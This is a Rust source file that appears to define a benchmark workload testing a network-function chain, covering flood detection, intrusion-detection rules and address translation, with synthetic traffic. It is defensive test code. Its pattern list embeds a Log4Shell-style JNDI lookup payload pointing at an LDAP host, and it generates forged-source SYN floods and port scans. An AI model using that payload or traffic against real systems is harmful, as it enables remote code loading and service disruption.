//! The workload of intrusion detection (NFV-DIN): packets of both directions are counted for floods,
//! searched for attacks, and translated.
//!
//! Inside hosts send to servers outside, which answer to the public address and port of the translation.
//! The stream contains payloads that match a rule, one of which drops its packet; floods of TCP SYN from
//! forged addresses to the public port of one host; scans of unused ports; and packets without a route.
//! The fate of each packet is known: every answer contains the next hop and the translated packet, which
//! differs from the one sent in one end and its checksums only. At the end the windows with their packets
//! and alarms, the rules that matched, and translations of hosts are read from every shard. What earlier
//! loads left is read before the load. (Scans are some percent of what arrives at unused addresses, and
//! far less of a used one: Durumeric, Bailey, Halderman, "An Internet-Wide View of Internet-Wide
//! Scanning", USENIX Security 2014; floods: [`crate::oracles::ddos`].)

use crate::error::WorkloadError;
use crate::inputs::Inputs;
use crate::oracles::ddos::{self, Floods};
use crate::oracles::gateway::{
    self, Address, Bytes, End, Flows, Inside, Mapping, NOT_FOUND, Routes, SYN, Translations,
};
use crate::oracles::nids::{self, Alerts};
use crate::packets::{ATTACKS, FLOWS, Packets};
use crate::readback::checks::{Ask, Checks, Facts, WithFacts};
use crate::readback::queries::{answer, first_answer, handled, not_admitted};
use crate::readback::score::Score;
use e3_loadgen::ledger::Rows;
use e3_loadgen::workload::{Call, Check, Judged, Verified, Workload};
use e3_model::Timestamp;
use e3_packet::{Flow, PacketBuilder, protocol};
use e3_random::Random;
use e3_wire::entry::{Outcome, Reply};
use serde::Deserialize;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// Attacks in payloads: those of all packets, and one that is dropped.
const PATTERNS: [&str; ATTACKS.len() + 1] = {
    let mut patterns = ["${jndi:ldap://198.18.0.1/a}"; ATTACKS.len() + 1];
    let mut at = 0;
    while at < ATTACKS.len() {
        patterns[at] = ATTACKS[at];
        at += 1;
    }
    patterns
};
/// Place of the one that is dropped.
const DROPPED: usize = ATTACKS.len();
/// While there is a flood, so many packets of 5 belong to it.
const FLOOD_OF_5: u64 = 2;
/// One packet in so many is a scan.
const SCAN_ONE_IN: u64 = 200;
/// One packet in so many goes where no route leads.
const LOST_ONE_IN: u64 = 200;
/// Flows among which a flood's victim is: frequent ones, which have a public port soon.
const VICTIMS: u64 = 4;

#[derive(Deserialize)]
#[serde(rename_all = "kebab-case")]
struct Translated {
    direction: String,
    source: Address,
    source_port: u16,
    #[serde(default)]
    next_hop: Option<Address>,
    packet: Bytes,
}

#[derive(Deserialize)]
struct Detected {
    sids: Vec<u32>,
    dropped: bool,
}

#[derive(Clone, Copy, Debug)]
enum Asked {
    Floods(u16),
    Alerts,
    Mapping(Inside),
}

impl Ask for Asked {
    fn service(self) -> &'static str {
        match self {
            Asked::Floods(_) => "ddos",
            Asked::Alerts => "nids",
            Asked::Mapping(_) => "natv4",
        }
    }
}

/// What must become of a packet.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Fate {
    /// Leaves translated.
    Out,
    /// Comes to this inside end.
    In(Ipv4Addr, u16),
    /// Is refused: nobody has the port, or there is no route.
    Nowhere,
}

#[derive(Debug)]
struct InFlight {
    key: Vec<u8>,
    packet: Vec<u8>,
    flow: Flow,
    fate: Fate,
    attack: Option<usize>,
}

enum Sent {
    Packet(InFlight),
    Report(u16),
}

/// The workload.
pub struct NfvDin {
    stream: Packets,
    random: Random,
    routes: Routes,
    flows: Flows,
    rate_rps: f64,
    sent: u64,
    in_flight: BTreeMap<u64, Sent>,
    floods: Floods,
    victim: Option<u32>,
    translations: Translations,
    packets: Score,
    hops: Score,
    refused: Score,
    dropped: Score,
    alerts: Alerts,
    baseline: Checks<Asked>,
    checks: Checks<Asked>,
    check_from: Option<Timestamp>,
}

/// What is asked of the shards of ddos and nids, before and after the load.
fn ask_shards() -> impl Iterator<Item = (Asked, Call)> {
    let ddos = (0..ddos::SHARDS).map(|shard| (Asked::Floods(shard), ddos::query(shard)));
    let nids = (0..nids::SHARDS).map(|shard| (Asked::Alerts, nids::query(shard)));
    ddos.chain(nids)
}

impl NfvDin {
    /// The packets of a seed.
    pub fn new(inputs: &Inputs) -> Result<NfvDin, WorkloadError> {
        let routes = Routes::shipped()?;
        Ok(NfvDin {
            stream: Packets::with(inputs.seed, &PATTERNS),
            random: Random::new(!inputs.seed),
            flows: Flows::new(&routes),
            routes,
            rate_rps: inputs.rate_rps,
            sent: 0,
            in_flight: BTreeMap::new(),
            floods: Floods::default(),
            victim: None,
            translations: Translations::default(),
            packets: Score::default(),
            hops: Score::default(),
            refused: Score::default(),
            dropped: Score::default(),
            alerts: Alerts::default(),
            baseline: Checks::new(ask_shards().collect()),
            checks: Checks::default(),
            check_from: None,
        })
    }

    /// A packet of a flood, if there is one now.
    fn flood(&mut self) -> Option<(InFlight, Vec<u8>)> {
        if !ddos::is_time(self.sent as f64 / self.rate_rps) {
            self.victim = None;
            return None;
        }
        if self.random.below(5) >= FLOOD_OF_5 {
            return None;
        }
        let rank = match self.victim {
            Some(rank) => rank,
            // these are of TCP
            None => self.random.below(VICTIMS) as u32 * 5,
        };
        let inside = self.flows.of(rank);
        let (address, port) = self.translations.public(&gateway::inside(&inside))?;
        self.victim = Some(rank);
        let flow = Flow {
            source: gateway::outside(&mut self.random),
            source_port: 1024 + self.random.below(60_000) as u16,
            destination: address,
            destination_port: port,
            protocol: inside.protocol,
        };
        let sequence = self.random.next_u64() as u32;
        let packet = PacketBuilder::new(flow).segment(sequence, 0, SYN).build();
        let in_flight = InFlight {
            key: Vec::new(),
            packet,
            flow,
            fate: Fate::In(inside.source, inside.source_port),
            attack: None,
        };
        Some((in_flight, gateway::key(inside.source)))
    }

    /// Somebody tries the well-known ports of the public addresses, which are no one's.
    fn scan(&mut self) -> (InFlight, Vec<u8>) {
        let destination = gateway::public(self.random.next_u64());
        let flow = Flow {
            source: gateway::outside(&mut self.random),
            source_port: 40_000,
            destination,
            destination_port: 1 + self.random.below(1023) as u16,
            protocol: protocol::TCP,
        };
        let packet = PacketBuilder::new(flow).segment(1, 0, SYN).build();
        let in_flight = InFlight {
            key: Vec::new(),
            packet,
            flow,
            fate: Fate::Nowhere,
            attack: None,
        };
        (in_flight, gateway::key(destination))
    }

    fn ordinary(&mut self) -> (InFlight, Vec<u8>) {
        let back = self.random.one_in(2);
        let lost = self.random.one_in(LOST_ONE_IN);
        let (flows, translations, routes) = (&self.flows, &self.translations, &self.routes);
        let random = &mut self.random;
        let mut fate = Fate::Out;
        let mut host = Ipv4Addr::UNSPECIFIED;
        let mut flow = None;
        let sent = self.stream.next_of(|rank| {
            let out = flows.of(rank);
            host = out.source;
            let public = translations.public(&gateway::inside(&out));
            let this = match public.filter(|_| back) {
                Some((address, port)) => {
                    fate = Fate::In(out.source, out.source_port);
                    let reversed = out.reversed();
                    Flow {
                        destination: address,
                        destination_port: port,
                        ..reversed
                    }
                }
                None if lost => {
                    let destination = gateway::outside(random);
                    if routes.next_hop(destination).is_none() {
                        fate = Fate::Nowhere;
                    }
                    Flow { destination, ..out }
                }
                None => out,
            };
            *flow.insert(this)
        });
        let in_flight = InFlight {
            key: Vec::new(),
            packet: sent.bytes,
            flow: flow.expect("asked for"),
            fate,
            attack: sent.attack,
        };
        (in_flight, gateway::key(host))
    }

    /// Judges the answer of the last service.
    fn on_translated(&mut self, sent: &InFlight, reply: Option<&Reply>) -> bool {
        let Some(got) = answer::<Translated>(reply) else {
            return false;
        };
        let (expected, hop) = match sent.fate {
            Fate::Nowhere => return false,
            Fate::In(address, port) => {
                let packet = gateway::readdressed(&sent.packet, End::Destination, address, port);
                (packet, None)
            }
            Fate::Out => {
                let public = (got.source.0, got.source_port);
                let inside = gateway::inside(&sent.flow);
                let consistent = self.translations.add(inside, public);
                let hop = self.routes.next_hop(sent.flow.destination);
                let right = self.hops.add(got.next_hop.map(|a| a.0) == hop);
                if !consistent || !right {
                    return false;
                }
                let packet = gateway::readdressed(&sent.packet, End::Source, public.0, public.1);
                (packet, hop)
            }
        };
        let direction = if hop.is_some() { "out" } else { "in" };
        self.packets
            .add(got.packet.0 == expected && got.direction == direction)
    }

    /// Holds an answer after the load against what was sent; None if it is none.
    fn read_back(&mut self, asked: Asked, reply: Option<&Reply>) -> Option<Facts> {
        match asked {
            Asked::Floods(shard) => self.floods.on_report(shard, &answer(reply)?),
            Asked::Alerts => self.alerts.on_report(answer(reply)?, false),
            Asked::Mapping(inside) => {
                let mapping = Mapping::of(reply)?;
                return Some(Facts::one(mapping == self.translations.public(&inside)));
            }
        }
        Some(Facts::default())
    }
}

impl Workload for NfvDin {
    fn name(&self) -> &'static str {
        "nfv-din"
    }

    fn describe(&self) -> String {
        format!(
            "packets of {FLOWS} flows by Zipf's law, simple IMIX, in both directions; 1 % attacks, floods, scans"
        )
    }

    fn probe(&mut self) -> Call {
        nids::query(0)
    }

    fn on_probe(&mut self, reply: &Reply) -> Result<(), String> {
        first_answer::<nids::Report>(reply).map(drop)
    }

    fn next_baseline(&mut self) -> Check {
        self.baseline.next()
    }

    fn on_baseline(&mut self, tag: u64, reply: Option<&Reply>) {
        let taken = match self.baseline.asked(tag) {
            Some(Asked::Floods(shard)) => answer(reply).map(|said| self.floods.begin(shard, &said)),
            Some(Asked::Alerts) => answer(reply).map(|said| self.alerts.on_report(said, true)),
            Some(Asked::Mapping(_)) | None => None,
        };
        self.baseline.take(tag, taken.map(|()| Facts::one(true)));
    }

    fn baseline_unanswered(&self) -> u64 {
        self.baseline.unanswered()
    }

    fn at(&mut self, now: Timestamp) {
        self.floods.at(now);
    }

    fn next(&mut self) -> Option<Call> {
        self.sent += 1;
        let tag = self.sent;
        if let Some(shard) = self.floods.next_query() {
            self.in_flight.insert(tag, Sent::Report(shard));
            let query = ddos::query(shard);
            return Some(Call { tag, ..query });
        }
        let flood = self.flood();
        let is_flood = flood.is_some();
        let (sent, key) = match flood {
            Some(flood) => flood,
            None if self.random.one_in(SCAN_ONE_IN) => self.scan(),
            None => self.ordinary(),
        };
        self.floods.on_sent(&key, is_flood);
        let payload = sent.packet.clone();
        let sent = InFlight {
            key: key.clone(),
            ..sent
        };
        self.in_flight.insert(tag, Sent::Packet(sent));
        Some(Call { tag, key, payload })
    }

    fn on_outcome(&mut self, tag: u64, reply: Option<&Reply>) -> Judged {
        let sent = match self.in_flight.remove(&tag) {
            Some(Sent::Packet(sent)) => sent,
            Some(Sent::Report(shard)) => {
                let report = answer(reply);
                if let Some(report) = &report {
                    self.floods.on_report(shard, report);
                }
                return match report {
                    Some(_) => Judged::accepted(),
                    None => Judged::refused(handled(reply)),
                };
            }
            None => return Judged::refused(handled(reply)),
        };
        if !not_admitted(reply) {
            self.floods.on_outcome(&sent.key, handled(reply));
            if let Some(attack) = sent.attack {
                self.alerts.on_attack(attack, handled(reply));
            }
        }
        let Some(reply) = reply.filter(|r| r.outcome == Outcome::Done) else {
            return Judged::refused(false);
        };
        if sent.attack == Some(DROPPED) {
            let sids = [nids::FIRST_SID + DROPPED as u32];
            let detected = answer::<Detected>(Some(reply));
            let right = detected.is_some_and(|d| d.dropped && d.sids == sids);
            return if self.dropped.add(right) {
                Judged::accepted()
            } else {
                Judged::refused(true)
            };
        }
        if sent.fate == Fate::Nowhere {
            return if self.refused.add(reply.status == NOT_FOUND) {
                Judged::refused_on_purpose()
            } else {
                Judged::refused(true)
            };
        }
        if self.on_translated(&sent, Some(reply)) {
            Judged::accepted()
        } else {
            Judged::refused(true)
        }
    }

    fn next_check(&mut self, now: Timestamp) -> Check {
        if self.check_from.is_none() {
            let mappings = self.translations.asked().map(|inside| {
                let call = gateway::ask_mapping(inside);
                (Asked::Mapping(inside), call)
            });
            self.checks = Checks::new(ask_shards().chain(mappings).collect());
        }
        // The last window must be over.
        let from = now + ddos::WINDOW + ddos::WINDOW / 10;
        let from = *self.check_from.get_or_insert(from);
        if now < from {
            Check::At(from)
        } else {
            self.checks.next()
        }
    }

    fn on_check(&mut self, _: Timestamp, tag: u64, reply: Option<&Reply>) {
        let asked = self.checks.asked(tag);
        let facts = asked.and_then(|asked| self.read_back(asked, reply));
        self.checks.take(tag, facts);
    }

    fn checked(&self) -> f64 {
        self.checks.progress()
    }

    fn verify(&self) -> Verified {
        let t = &self.translations;
        let mut findings = self.floods.findings().to_vec();
        findings.extend(self.alerts.findings());
        findings.extend([
            self.dropped
                .finding("dropped", "packets with an attack whose rule drops them"),
            Score(t.consistent, t.seen).finding(
                "translations",
                "outgoing packets with the public address and port of their flow alone",
            ),
            self.packets
                .finding("packets", "translated packets that are right in every byte"),
            self.hops.finding(
                "next hops",
                "next hops that an independent longest-prefix search gives",
            ),
            self.refused.finding(
                "refused",
                "packets to unused ports or without a route that were refused",
            ),
        ]);
        let (alerts, packets) = (&self.alerts, self.floods.totals());
        let checks = [
            self.checks
                .of(
                    "ddos",
                    "packets that each shard has counted in its windows",
                    packets.unsure(),
                )
                .with_facts(packets.facts()),
            self.checks
                .of("nids", "alerts of each rule", alerts.unsure())
                .with_facts(alerts.facts()),
            self.checks.of("natv4", gateway::MAPPINGS, 0),
        ];
        Verified {
            rows: Rows {
                checks_failed: self.checks.unanswered(),
                ..self.alerts.rows()
            },
            checks: checks.into(),
            findings,
        }
    }
}
